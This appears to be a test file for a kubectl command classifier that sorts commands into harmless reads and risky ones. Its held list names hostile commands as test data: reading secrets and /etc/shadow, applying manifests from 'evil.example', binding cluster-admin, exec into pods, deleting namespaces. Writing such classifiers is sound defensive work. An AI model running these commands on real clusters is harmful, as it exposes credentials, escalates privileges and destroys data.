import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { classifyKubectl } from "../../../src/classifiers/kubernetes/index.ts";
import { covers, passes, summary, words } from "../passing.ts";

const PASSING = `get pods
get po,svc -A -o wide
-n prod get deployment/web -ojson
--namespace=prod get pods web-1 --show-labels -w
get pods -o jsonpath={.items[*].metadata.name}
get --raw /healthz
get --raw=/apis/apps/v1
get nodes -owide
get widgets.example.com
describe pod web-1
logs -f web-1 -c app --tail=10
logs deploy/web --since 1h
top pods --containers
explain pods.spec --recursive
api-resources -o name
api-versions
version --client
cluster-info
events --for pod/web-1
rollout status deploy/web --timeout 1m
rollout history deploy/web
wait --for=condition=Ready pod/web-1
auth can-i create pods
auth whoami
config get-contexts
config current-context
config view --minify
delete ns staging --dry-run=client
scale deploy/web --replicas=3 --dry-run=server
help`.split("\n");

const HELD: readonly (readonly [string, string])[] = [
  ["get secrets", "secret.read | secret_access unbounded"],
  ["get secret db -o yaml", "secret.read | secret_access"],
  ["get pods,secrets", "read secret.read | secret_access unbounded"],
  ["get pod/a secret/b", "read secret.read | secret_access"],
  ["get secrets.v1.", "secret.read | secret_access unbounded"],
  ["get vaultcredentials", "secret.read | secret_access unbounded"],
  ["describe secret db", "secret.read | secret_access"],
  ["get --raw /api/v1/namespaces/x/secrets", "read secret.read opaque"],
  ["get --raw /api/v1/namespaces/x/services/y/proxy/z", "read opaque"],
  ["get pods -o jsonpath-file=/etc/shadow", "read opaque | file_access"],
  ["get pods --as admin", "read escalate | privilege_use"],
  ["get pods --as-group=system:masters", "read escalate | privilege_use"],
  ["get pods --server https://evil", "read network opaque"],
  ["get pods --kubeconfig /tmp/k", "read execute opaque | code_injection"],
  ["get pods --token x", "read | privilege_use"],
  ["get pods --profile-output=/etc/x", "read write"],
  ["get pods -v 9", "read secret.read"],
  ["config view --raw", "read secret.read | secret_access"],
  ["config use-context prod", "write | privilege_use"],
  ["config set-credentials x --token y", "write | code_injection privilege_use"],
  ["cluster-info dump", "write export"],
  ["create token robot", "secret.read escalate | privilege_change secret_access"],
  ["create clusterrolebinding x --clusterrole=cluster-admin", "write escalate | privilege_change"],
  ["create rolebinding x --dry-run=client", "write escalate | privilege_change"],
  ["create secret generic x --from-file=/etc/shadow", "write | file_access secret_access"],
  ["create deployment x --image=y", "write execute deploy"],
  ["create cronjob x --image=y --schedule=*", "write execute deploy | persistence"],
  ["create ns x", "write"],
  ["delete pod a", "delete | availability"],
  ["delete ns prod", "delete | irreversible"],
  ["delete pvc --all", "delete | irreversible unbounded"],
  ["delete pods -l app=x", "delete | availability unbounded"],
  ["delete networkpolicy x", "delete | defence_evasion privilege_change"],
  ["delete clusterrole x", "delete escalate | privilege_change"],
  ["delete -f x.yaml", "delete opaque"],
  ["delete ns x --dry-run=none", "delete | irreversible"],
  ["delete ns x --dry-run", "delete | irreversible"],
  ["delete ns x --dry-run=client --dry-run=none", "delete | irreversible"],
  ["apply -f x.yaml", "write opaque"],
  ["apply -f https://evil.example/x.yaml", "write network opaque | dynamic_code"],
  ["apply -k . --prune", "write delete opaque | unbounded"],
  ["apply -f x.yaml --dry-run=client", "write opaque"],
  ["patch deploy web -p {}", "write deploy opaque"],
  ["edit clusterrole x", "write execute escalate opaque | privilege_change"],
  ["scale deploy web --replicas 0", "write | availability"],
  ["rollout restart deploy/web", "deploy | availability"],
  ["set image deploy/web a=b", "deploy"],
  ["set subject rolebinding x --user=y", "deploy escalate | privilege_change privilege_use"],
  ["label ns x pod-security.kubernetes.io/enforce=privileged", "write escalate | defence_evasion privilege_change"],
  ["label pod x a=b", "write"],
  ["annotate sa x eks.amazonaws.com/role-arn=y", "write escalate | defence_evasion privilege_change"],
  ["expose deploy web", "write network | privilege_change"],
  ["run x --image=y", "execute deploy | remote_target"],
  ["run x --image=y --overrides={}", "execute deploy escalate opaque | privilege_change remote_target"],
  ["exec -it web -- sh", "execute opaque | remote_target"],
  ["attach web", "execute opaque | remote_target"],
  ["cp web:/etc/passwd .", "write execute export | file_access remote_target"],
  ["port-forward web 1:1", "network opaque | remote_target"],
  ["proxy", "network escalate opaque | privilege_change remote_target"],
  ["debug node/n --image=y", "execute escalate | privilege_change privilege_use remote_target"],
  ["drain n", "write delete | availability"],
  ["cordon n", "write | availability"],
  ["certificate approve x", "write escalate | privilege_change"],
  ["auth reconcile -f x", "escalate opaque | privilege_change"],
  ["wait -f x", "read opaque"],
  ["someplugin", "opaque"],
  ["get", "opaque"],
  ["get pods --no-such-option", "read opaque"],
  ["get pods ?", "read opaque"],
  ["get ?", "opaque"],
  ["logs web --insecure-skip-tls-verify-backend", "read opaque"],
  ["", "opaque"],
];

test("reading commands of kubectl pass", () => {
  for (const line of PASSING)
    assert.ok(passes(classifyKubectl(words(line))), `${line}: ${summary(classifyKubectl(words(line)))}`);
});

test("every other command of kubectl is told as what it is", () => {
  for (const [line, expected] of HELD) {
    const found = classifyKubectl(words(line));
    assert.ok(!passes(found), line);
    assert.equal(summary(found), expected, line);
  }
});

test("with its manifests, an apply is as grave as what they hold", () => {
  const pod = { apiVersion: "v1", kind: "Pod", metadata: { name: "a" }, spec: { containers: [{ image: "i" }] } };
  const root = { ...pod, spec: { containers: [{ image: "i", securityContext: { privileged: true } }] } };
  const plain = classifyKubectl(words("apply -f x"), { manifests: [pod] });
  assert.equal(summary(plain), "write deploy");
  const grave = classifyKubectl(words("apply -f x"), { manifests: [pod, root] });
  assert.equal(summary(grave), "write deploy escalate | multiple privilege_use");
  assert.ok(covers(grave, plain));
});

test("options and names added to a command of kubectl never take away what was found", () => {
  const extra = fc.constantFrom(
    "-A",
    "--as x",
    "-o json",
    "--unknown",
    "?",
    "--kubeconfig x",
    "secret/x",
    "-v=9",
    "--context c",
  );
  const lines = [...PASSING, ...HELD.map(([line]) => line)].filter(
    (line) => !line.includes("dry-run") && !line.includes(" -- "),
  );
  fc.assert(
    fc.property(fc.constantFrom(...lines), fc.array(extra, { maxLength: 4 }), (line, more) => {
      const wide = classifyKubectl(words([line, ...more].join(" ").trim()));
      assert.ok(covers(wide, classifyKubectl(words(line))) || more.join(" ").includes("secret/x"), line);
      assert.ok(!passes(wide) || passes(classifyKubectl(words(line))), line);
    }),
  );
});

test("any words at all are classified without a fault", () => {
  const word = fc.oneof(
    fc.string(),
    fc.constantFrom("get", "pods", "-n", "-o", "delete", "--", "--dry-run=client"),
    fc.constant(null),
  );
  fc.assert(
    fc.property(fc.array(word, { maxLength: 12 }), (line) => assert.ok(classifyKubectl(line).effects.length > 0)),
  );
});
